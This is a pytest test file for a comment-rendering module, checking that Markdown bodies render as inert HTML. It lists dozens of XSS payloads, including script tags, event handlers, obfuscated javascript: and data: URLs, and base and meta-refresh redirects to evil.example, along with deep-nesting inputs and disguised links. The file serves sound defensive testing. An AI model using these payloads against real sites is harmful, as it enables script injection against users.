"""Comment bodies: Markdown renders, and no active content survives, checked on parsed HTML."""

from __future__ import annotations

import markdown
import pytest
from bs4 import BeautifulSoup

from comments_api.core import rendering
from comments_api.core.rendering import (
    ALLOWED_TAGS,
    MAX_NESTING,
    body_problem,
    count_links,
    render_body,
    sanitize_html,
)

XSS_BODIES = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<a href="javascript:alert(1)">x</a>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java&#x09;script:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](jav&#x61;script&colon;alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    '[x](https://ok.example "title" onclick=alert(1))',
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<style>body{display:none}</style>",
    "<object data=x.swf></object><embed src=x.swf>",
    "<form action=//evil><input name=q></form>",
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<a href="https://ok.example" onmouseover="alert(1)">hover</a>',
    "<!--<script>alert(1)</script>-->",
    "<<script>script>alert(1)<</script>/script>",
    "![x](https://tracker.example/pixel.png)",
    "![x](javascript:alert(1))",
    '<http://ok.example/" onmouseover="alert(1)>',
    "```\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    "[a]: javascript:alert(1)\n\n[click][a]",
    '<base href="//evil.example/">',
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    '"><script>alert(1)</script>',
    "<details open ontoggle=alert(1)>",
]


def inert(html: str) -> None:
    """Assert that parsed HTML has only allowlisted tags, no handlers, no active URLs."""
    for parser in ("html.parser", "lxml"):
        soup = BeautifulSoup(f"<body>{html}</body>", parser)
        for tag in soup.body.find_all(True):
            assert tag.name in ALLOWED_TAGS, (parser, tag)
            for name, value in tag.attrs.items():
                assert not name.lower().startswith("on"), tag
                assert name in ("href", "rel", "start"), tag
                if name == "href":
                    scheme = value.split(":", 1)[0].strip().lower() if ":" in value else ""
                    assert scheme in ("", "http", "https", "mailto"), tag
            if tag.name == "a":
                assert tag["rel"] == ["nofollow", "ugc", "noopener"], tag


@pytest.mark.parametrize("body", XSS_BODIES)
def test_hostile_markup_renders_inert(body):
    html = render_body(body)
    inert(html)
    # Typed markup may stay visible as text, but never as a tag.
    assert "<script" not in html.lower()


def test_raw_html_is_shown_as_text_not_interpreted():
    html = render_body("I <3 <b>bold</b> claims & x < y")
    soup = BeautifulSoup(html, "html.parser")
    assert soup.find("b") is None
    assert soup.get_text() == "I <3 <b>bold</b> claims & x < y"


def test_markdown_renders_emphasis_links_lists_quotes_and_code():
    html = render_body(
        "Some *emphasis* and **strong**.\n\n> quoted\n\n- one\n- two\n\n"
        "[a link](https://example.org/a) and `code`\nnext line"
    )
    soup = BeautifulSoup(html, "html.parser")
    assert soup.find("em").text == "emphasis"
    assert soup.find("strong").text == "strong"
    assert soup.find("blockquote").get_text(strip=True) == "quoted"
    assert [li.text for li in soup.find_all("li")] == ["one", "two"]
    link = soup.find("a")
    assert link["href"] == "https://example.org/a"
    assert link["rel"] == ["nofollow", "ugc", "noopener"]
    assert soup.find("code").text == "code"
    assert soup.find("br") is not None


def test_headings_stay_paragraphs_and_images_become_links():
    html = render_body("# Big\n\n![alt text](https://i.example/p.png)")
    soup = BeautifulSoup(html, "html.parser")
    assert soup.find(["h1", "h2", "img"]) is None
    assert "Big" in soup.get_text()
    assert soup.find("a")["href"] == "https://i.example/p.png"


def test_sanitizer_alone_strips_what_markdown_might_let_through():
    html = sanitize_html('<p onclick="x()">hi<script>bad()</script><a href="javascript:x">.</a>')
    inert(html)
    assert "bad()" not in html


@pytest.mark.parametrize(
    ("text", "links"),
    [
        ("no links at all", 0),
        ("see https://a.example", 1),
        ("see https://a.example and http://b.example/x", 2),
        ("bare www.example.org counts", 1),
        ("//protocol.relative/x", 1),
        ("[md](https://a.example) <https://b.example>", 2),
        ("https://www.example.org is one link", 1),
        ("example.org alone is not counted", 0),
        ("ftp://files.example and mailto:x@y.example", 1),
    ],
)
def test_count_links_counts_scheme_urls_and_bare_www_hosts(text, links):
    assert count_links(text) == links


POISON = ["- " * 500 + "x", "1. " * 500 + "x", "\n".join("    " * i + "- x" for i in range(300))]


@pytest.mark.parametrize("body", POISON)
def test_deep_nesting_never_raises_nor_breaks_later_renders(body):
    before = render_body("*after* the attack")
    assert render_body(body).startswith("<p>")
    # The same thread's converter renders the next comment as before (it used to stay broken).
    assert render_body("*after* the attack") == before == "<p><em>after</em> the attack</p>"
    assert body_problem(body).startswith("This comment is nested too deeply")


def test_a_failing_conversion_throws_its_converter_away(monkeypatch):
    def explode(self, source):
        raise RuntimeError("boom")

    rendering._render.cache_clear()
    rendering._local.md = None
    rendering._markdown("warm *up*")
    monkeypatch.setattr(markdown.Markdown, "convert", explode)
    # Not plain paragraphs, which are rendered without the converter.
    body = "a body that *fails*"
    assert render_body(body) == "<p>a body that *fails*</p>"
    assert body_problem(body) == rendering.UNRENDERABLE
    assert rendering._local.md is None
    monkeypatch.undo()
    assert render_body("*fine*") == "<p><em>fine</em></p>"


def test_nesting_up_to_the_limit_renders():
    body = "> " * MAX_NESTING + "x"
    assert body_problem(body) is None
    assert render_body(body).count("<blockquote>") == MAX_NESTING
    assert body_problem("> " * (MAX_NESTING + 1) + "x") is not None


def test_html_larger_than_the_cap_is_a_problem():
    assert body_problem("&" * 65525) == rendering.TOO_LARGE
    assert len(render_body("x" * 65525)) < rendering.MAX_HTML_BYTES
    assert body_problem("\U0001f600" * 65525) is None


@pytest.mark.parametrize(
    ("body", "href"),
    [
        ("[a](https:/x.example)", "https://x.example"),
        ("[a](https:\\\\x.example)", "https://x.example"),
        ("[a](http:\\\\x.example)", "http://x.example"),
        ("[a](https:x.example/p)", "https://x.example/p"),
        ("[a](HTTPS:///x.example)", "https://x.example"),
        ("[a](//x.example/p)", "https://x.example/p"),
        ("[a](/\\x.example)", "https://x.example"),
        # Markdown unescapes "\\\\" to one backslash, which a browser reads as "/".
        ("[a](\\\\x.example)", "/x.example"),
        ("[a](/local/page)", "/local/page"),
        ("[a](page\\sub?q=a\\b)", "page/sub?q=a\\b"),
        ("[a](mailto:ann@example.org)", "mailto:ann@example.org"),
        ("[a](https://ok.example@evil.example/)", None),
        ("[a](https://)", None),
        ("[a](https:)", None),
        ("[a](jav&#x61;script&colon;alert(1))", None),
        # Markdown turns the tab into spaces, which end the scheme: a harmless relative path.
        ("[a](java\tscript:alert(1))", "java    script:alert(1)"),
        ("[a](https://x.example:port/)", None),
    ],
)
def test_disguised_hrefs_are_written_out_or_dropped(body, href):
    link = BeautifulSoup(render_body(body), "html.parser").find("a")
    assert link.get("href") == href


def test_sanitizer_normalises_hrefs_in_raw_html_too():
    html = sanitize_html('<a href="https:\\\\evil.example">x</a><a href="/\\evil.example">y</a>')
    hrefs = [a["href"] for a in BeautifulSoup(html, "html.parser").find_all("a")]
    assert hrefs == ["https://evil.example", "https://evil.example"]
